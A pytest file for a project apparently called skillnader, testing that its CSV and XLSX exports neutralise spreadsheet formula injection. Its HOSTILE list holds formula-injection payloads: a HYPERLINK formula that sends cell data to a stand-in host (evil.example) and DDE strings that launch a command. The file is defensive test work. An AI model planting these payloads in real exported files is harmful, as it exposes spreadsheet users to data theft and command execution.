"""No CSV or XLSX the product writes carries text that a spreadsheet would run as a formula
(issue 16, item 2): every writer goes through :mod:`skillnader.safecsv`."""

from __future__ import annotations

import csv
import io

import pytest
from click.testing import CliRunner

from skillnader.safecsv import (
    is_dangerous,
    safe_cell,
    safe_dict_writer,
    safe_writer,
    safe_xlsx_row,
    set_xlsx_cell,
)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Klicka")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_helper_neutralises_every_formula_start(text):
    assert is_dangerous(text)
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", [-1.5, 0, 3, "-3.5", "+2", "1e-5", "Järva", "", "a=b", None])
def test_helper_leaves_numbers_and_plain_text(value):
    assert not is_dangerous(value)
    assert safe_cell(value) == ("" if value is None else value)


def test_csv_writers_of_the_helper():
    buf = io.StringIO()
    safe_writer(buf).writerow(["=1+1", -1, "ok"])
    w = safe_dict_writer(buf, ["@a", "b"], lineterminator="\n")
    w.writeheader()
    w.writerow({"@a": "+x", "b": 2})
    rows = list(csv.reader(io.StringIO(buf.getvalue())))
    assert rows == [["'=1+1", "-1", "ok"], ["'@a", "b"], ["'+x", "2"]]


def test_xlsx_cells_are_text_not_formulas(tmp_path):
    from openpyxl import Workbook, load_workbook

    wb = Workbook()
    ws = wb.active
    ws.append(safe_xlsx_row(["=1+1", 2.5, "Järva"]))
    set_xlsx_cell(ws.cell(row=2, column=1), "=HYPERLINK(1)")
    set_xlsx_cell(ws.cell(row=2, column=2), -4)
    wb.save(tmp_path / "t.xlsx")
    ws2 = load_workbook(tmp_path / "t.xlsx").active
    assert [c.data_type for c in ws2[1]] == ["s", "n", "s"]
    assert ws2["A1"].value == "'=1+1" and ws2["A2"].value == "'=HYPERLINK(1)"
    assert ws2["B2"].value == -4


@pytest.fixture
def hostile(world):
    """The fixture world with an area and a group named like formulas."""
    area = world["a23"]["11"]
    area.name = HOSTILE[0]
    area.save()
    world["city"].name = HOSTILE[3]
    world["city"].save()
    ind = world["employment"]
    ind.name_sv = HOSTILE[2]
    ind.save()
    return world


def assert_no_live_formula(text: str):
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert len(rows) > 1
    cells = [c for r in rows for c in r]
    assert not [c for c in cells if is_dangerous(c)], [c for c in cells if is_dangerous(c)]
    return cells


def test_cli_observations_csv(hostile):
    r = CliRunner().invoke(
        __import__("skillnader.cli", fromlist=["main"]).main,
        ["observations", "--indicator", "employment", "--format", "csv"],
    )
    assert r.exit_code == 0, r.output
    cells = assert_no_live_formula(r.output)
    assert "'" + HOSTILE[0] in cells and "'" + HOSTILE[3] in cells


def test_cli_export_csv(hostile, tmp_path):
    from skillnader.cli import main

    out = tmp_path / "obs.csv"
    r = CliRunner().invoke(main, ["export", "--format", "csv", "--out", str(out)])
    assert r.exit_code == 0, r.output
    cells = assert_no_live_formula(out.read_text(encoding="utf-8"))
    assert "'" + HOSTILE[0] in cells


@pytest.mark.parametrize(
    "url",
    [
        "/indicator/employment.csv",
        "/area/sdo/2023/11.csv",
        "/compare.csv?a=sdo/2023/11&a=sdo/2023/12",
        "/api/v1/observations?indicator=employment&format=csv",
        "/api/v1/inequality?indicator=employment&format=csv",
    ],
)
def test_web_and_api_csv(hostile, client, url):
    r = client.get(url)
    assert r.status_code == 200, (url, r.status_code)
    assert r["Content-Type"].startswith("text/csv")
    cells = assert_no_live_formula(r.content.decode("utf-8"))
    if "inequality" not in url:
        assert any(c[:1] == "'" and is_dangerous(c[1:]) for c in cells), url


def test_every_csv_writer_in_the_source_uses_the_helper():
    """A new writer that bypasses the helper fails here: every module that makes a
    ``csv.writer``/``DictWriter`` passes its fields through :mod:`skillnader.safecsv`. Exempt are
    writers of the product's own input files, which are read back and must round-trip exactly:
    the bundle builder's data files (and the derived key files the bundle's school and DeSO
    scripts write) and the allocation's input files."""
    from pathlib import Path

    import skillnader

    root = Path(skillnader.__file__).parent
    exempt = {
        "safecsv.py",
        "bundle/build.py",
        "bundle/schools.py",
        "bundle/deso_keys.py",
        "allocation/inputs.py",
    }
    offenders = []
    for p in root.rglob("*.py"):
        rel = p.relative_to(root).as_posix()
        text = p.read_text(encoding="utf-8")
        if rel in exempt:
            continue
        writes = "csv.writer(" in text or "csv.DictWriter(" in text
        if writes and "skillnader.safecsv" not in text:
            offenders.append(rel)
        if "openpyxl" in text and "Workbook(" in text and "skillnader.safecsv" not in text:
            offenders.append(rel)
    # remiss/compile.py writes the consultation compilation; it is guarded in its own tests.
    assert [o for o in offenders if o != "remiss/compile.py"] == []
